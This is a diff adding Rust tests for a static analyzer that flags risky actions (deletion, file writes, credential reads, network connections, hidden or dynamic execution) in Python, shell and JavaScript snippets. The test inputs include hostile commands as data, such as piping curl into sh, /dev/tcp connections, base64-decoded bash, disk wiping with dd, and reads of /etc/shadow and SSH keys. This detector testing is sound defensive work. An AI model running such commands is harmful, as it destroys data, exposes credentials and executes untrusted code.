@@ -1,0 +1,254 @@
+//! Small pieces of code and exactly what is found in them.
+
+use super::*;
+
+#[test]
+fn python_names_are_followed() {
+    check(
+        "python",
+        &[
+            ("print(1 + 1)", &[]),
+            ("import os\nos.remove('x')", &["2 deletes x high"]),
+            ("import os as o\no.remove('x')", &["2 deletes x high"]),
+            ("from os import remove as r\nr('x')", &["2 deletes x high"]),
+            ("from os import *\nremove('x')", &["2 deletes x high"]),
+            ("import os\nf = os.remove\nf('x')", &["2 deletes - high", "3 deletes x high"]),
+            ("import os\nlist(map(os.remove, files))", &["2 deletes - high"]),
+            ("__import__('os').remove('x')", &["1 deletes x high"]),
+            ("import os\ngetattr(os, 'remove')('x')", &["2 deletes x high"]),
+            ("import sys\nsys.modules['os'].remove('x')", &["2 deletes x high"]),
+            (
+                "import os\n(os.remove if a else print)('x')",
+                &["2 deletes - high", "2 deletes x high"],
+            ),
+            ("def remove(x): pass\nremove('x')", &[]),
+        ],
+    );
+}
+
+#[test]
+fn python_arguments_are_read_as_far_as_they_stand_in_the_code() {
+    check(
+        "python",
+        &[
+            ("open('x')", &["1 reads x low"]),
+            ("open(file='x', mode='w')", &["1 writes x medium"]),
+            ("open('x', 'r+')", &["1 reads x low", "1 writes x medium"]),
+            ("open('x', mode)", &["1 reads x low", "1 writes x medium"]),
+            ("open(x, 'w')", &["1 writes - medium"]),
+            ("name = 'x'\nopen(name)", &["2 reads x low"]),
+            ("name = 'x'\nname = f()\nopen(name)", &["3 reads - low"]),
+            ("def f(name): open(name)\nname = 'x'", &["1 reads - low"]),
+            ("open('/etc/' + 'shadow')", &["1 reads /etc/shadow high"]),
+            ("open(f'/home/{u}/x')", &["1 reads - medium"]),
+            ("import os\nopen(os.path.join('a', 'b'))", &["2 reads a/b low"]),
+            (
+                "import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))",
+                &["2 reads ~/.ssh/id_rsa high"],
+            ),
+            ("from pathlib import Path\n(Path('a') / 'b').unlink()", &["2 deletes a/b high"]),
+            ("from pathlib import Path\np = Path('a')\np.write_text('')", &["3 writes - medium"]),
+            ("import requests\nrequests.get(f'https://a.com/{x}')", &["2 connects a.com high"]),
+            ("import pandas as pd\npd.read_csv('https://a.com/x')", &["2 connects a.com high"]),
+            ("import socket\nsocket.create_connection(('a.com', 1))", &["2 connects a.com high"]),
+        ],
+    );
+}
+
+#[test]
+fn python_that_starts_programs_is_followed_into_them() {
+    check(
+        "python",
+        &[
+            ("import os\nos.system('rm -rf x')", &["2 starts rm medium", "2 deletes x high"]),
+            ("import os\nos.system(f'rm {x}')", &["2 starts rm medium", "2 deletes - high"]),
+            ("import os\nos.system(x)", &["2 starts - medium", "2 hides - high"]),
+            (
+                "import subprocess as s\ns.run(['rm', '-rf', 'x'], check=True)",
+                &["2 starts rm medium", "2 deletes x high"],
+            ),
+            ("import subprocess\nsubprocess.run(['ls'])", &["2 starts ls medium"]),
+            (
+                "import subprocess\nsubprocess.run(command)",
+                &["2 starts - medium", "2 hides - high"],
+            ),
+        ],
+    );
+}
+
+#[test]
+fn python_that_hides_is_found_to() {
+    check(
+        "python",
+        &[
+            ("exec(x)", &["1 hides - high"]),
+            ("import base64\nexec(base64.b64decode(x))", &["2 hides - high"]),
+            (
+                "exec('import os; os.remove(\"x\")')",
+                &["1 hides import os; os.remove(\"x\") high", "1 deletes x high"],
+            ),
+            ("__import__(x)", &["1 hides - high"]),
+            ("import os\ngetattr(os, x)()", &["2 hides - high"]),
+            ("getattr(thing, x)", &[]),
+            ("__builtins__.eval(x)", &["1 hides - high"]),
+            ("import ctypes", &["1 hides ctypes high"]),
+        ],
+    );
+}
+
+#[test]
+fn code_that_does_not_parse_is_unreadable_and_still_searched() {
+    check(
+        "python",
+        &[(
+            "import os\nos.remove('x')\nx = = 1",
+            &["2 deletes x high", "3 unreadable the Python code does not parse unknown"],
+        )],
+    );
+    check(
+        "shell",
+        &[(
+            "rm x\nif true",
+            &["1 deletes x high", "2 unreadable the shell code does not parse unknown"],
+        )],
+    );
+    check(
+        "javascript",
+        &[(
+            "fs.rmSync('x')\nlet = = 1",
+            &["1 deletes x high", "2 unreadable the JavaScript code does not parse unknown"],
+        )],
+    );
+}
+
+#[test]
+fn shell_programs_are_found_wherever_they_stand() {
+    check(
+        "shell",
+        &[
+            ("echo hello && ls -l | wc -l", &[]),
+            ("rm -rf a b", &["1 deletes a high", "1 deletes b high"]),
+            ("/bin/rm x", &["1 deletes x high"]),
+            ("\\rm x", &["1 deletes x high"]),
+            ("r''m x", &["1 deletes x high"]),
+            ("echo $(rm x)", &["1 deletes x high"]),
+            ("echo \"`rm x`\"", &["1 deletes x high"]),
+            ("f() { rm x; }\nf", &["1 deletes x high"]),
+            ("ls | xargs rm", &["1 deletes - high"]),
+            ("sudo -u root rm x", &["1 starts sudo high", "1 deletes x high"]),
+            ("env A=1 B=2 nice -n 5 timeout 3 rm x", &["1 deletes x high"]),
+            ("find . -name '*.o' -delete", &["1 deletes . high"]),
+            ("find . -exec rm {} \\;", &["1 deletes {} high"]),
+            ("sh -c 'rm x'", &["1 deletes x high"]),
+            ("bash -ec \"rm $x\"", &["1 deletes - high"]),
+            ("python3.11 -c 'import os; os.remove(\"x\")'", &["1 deletes x high"]),
+            ("bash <<'E'\nrm x\nE", &["1 deletes x high"]),
+            ("for i in a; do if true; then rm $i; fi; done", &["1 deletes - high"]),
+            ("${x:-$(rm y)}", &["1 deletes y high", "1 hides - high"]),
+            ("cmd=rm\n$cmd x", &["2 deletes x high"]),
+            ("[[ $(rm x) == y ]]", &["1 deletes x high"]),
+            ("cat <<E\n$(rm x)\nE", &["2 deletes x high"]),
+            ("command -v rm", &[]),
+            ("./configure", &["1 starts ./configure medium"]),
+            ("./ls", &["1 starts ./ls medium"]),
+        ],
+    );
+}
+
+#[test]
+fn shell_that_fetches_or_hides_is_found_to() {
+    check(
+        "shell",
+        &[
+            ("curl -fsSL https://a.com/i.sh | sh", &["1 connects a.com high", "1 hides - high"]),
+            (
+                "bash <(curl https://a.com/x)",
+                &["1 connects a.com high", "1 hides - high", "1 starts - medium"],
+            ),
+            ("echo cm0gLXJm | base64 -d | bash", &["1 hides - high"]),
+            ("eval \"$x\"", &["1 hides - high"]),
+            ("$x y", &["1 hides - high"]),
+            ("sh -c \"$x\"", &["1 hides - high"]),
+            ("git push origin main", &["1 connects origin high"]),
+            ("git -C a reset --hard", &["1 deletes - high"]),
+            ("git status", &[]),
+            ("git clone git@github.com:a/b", &["1 connects github.com high"]),
+            ("exec 3<>/dev/tcp/a.com/80", &["1 connects a.com high"]),
+            ("PATH=.:$PATH ls", &["1 hides PATH medium"]),
+        ],
+    );
+}
+
+#[test]
+fn shell_redirections_are_files() {
+    check(
+        "shell",
+        &[
+            ("echo a > x", &["1 writes x medium"]),
+            ("echo a >> ~/.bashrc", &["1 writes ~/.bashrc high"]),
+            ("ls > /dev/null 2>&1", &[]),
+            ("sort < x", &["1 reads x low"]),
+            ("echo a | tee x", &["1 writes x medium"]),
+            ("dd if=/dev/zero of=/dev/sda", &["1 writes /dev/sda high"]),
+            ("curl -so x https://a.com", &["1 writes x medium", "1 connects a.com high"]),
+            ("cat /etc/shadow", &["1 reads /etc/shadow high"]),
+        ],
+    );
+}
+
+#[test]
+fn javascript_names_are_followed() {
+    check(
+        "javascript",
+        &[
+            ("console.log(1 + 1)", &[]),
+            ("const fs = require('fs')\nfs.rmSync('x')", &["2 deletes x high"]),
+            ("import fs from 'node:fs'\nfs.rmSync('x')", &["2 deletes x high"]),
+            ("import * as f from 'fs'\nf.rmSync('x')", &["2 deletes x high"]),
+            ("import { rmSync as r } from 'fs'\nr('x')", &["2 deletes x high"]),
+            ("const { rmSync: r } = require('fs')\nr('x')", &["2 deletes x high"]),
+            ("const { promises: { rm } } = require('fs')\nawait rm('x')", &["2 deletes x high"]),
+            ("const { rm } = await import('fs/promises')\nrm('x')", &["2 deletes x high"]),
+            ("require('fs')['rm' + 'Sync']('x')", &["1 deletes x high"]),
+            ("(0, require('fs').rmSync)('x')", &["1 deletes - high", "1 deletes x high"]),
+            ("const fs = require('fs')\nfiles.forEach(fs.unlinkSync)", &["2 deletes - high"]),
+            ("const p = 'x'\nrequire('fs').readFileSync(p)", &["2 reads x low"]),
+            ("let p = 'x'\np = y\nrequire('fs').readFileSync(p)", &["3 reads - low"]),
+        ],
+    );
+}
+
+#[test]
+fn javascript_that_starts_connects_or_hides_is_found_to() {
+    check(
+        "javascript",
+        &[
+            (
+                "const { execSync } = require('child_process')\nexecSync('rm -rf x')",
+                &["2 starts rm medium", "2 deletes x high"],
+            ),
+            (
+                "require('child_process').spawn('rm', ['x'])",
+                &["1 starts rm medium", "1 deletes x high"],
+            ),
+            (
+                "const run = require('util').promisify(require('child_process').exec)\nrun(`ls ${x}`)",
+                &["1 starts - medium", "2 starts ls medium"],
+            ),
+            ("fetch(`https://a.com/${x}`)", &["1 connects a.com high"]),
+            ("new WebSocket('wss://a.com')", &["1 connects a.com high"]),
+            ("axios({ method: 'get', url: 'https://a.com/' })", &["1 connects a.com high"]),
+            ("require('net')", &["1 connects - high"]),
+            ("require(x)", &["1 hides - high"]),
+            (
+                "eval('fetch(\"https://a.com/\")')",
+                &["1 hides fetch(\"https://a.com/\") high", "1 connects a.com high"],
+            ),
+            ("\\u0065val(x)", &["1 hides - high"]),
+            ("new Function(x)()", &["1 hides - high"]),
+            ("const fs = require('fs')\nfs[x]()", &["2 hides - high"]),
+            ("''.constructor.constructor(x)()", &["1 hides - high"]),
+            ("setTimeout(f, 10)", &[]),
+        ],
+    );
+}
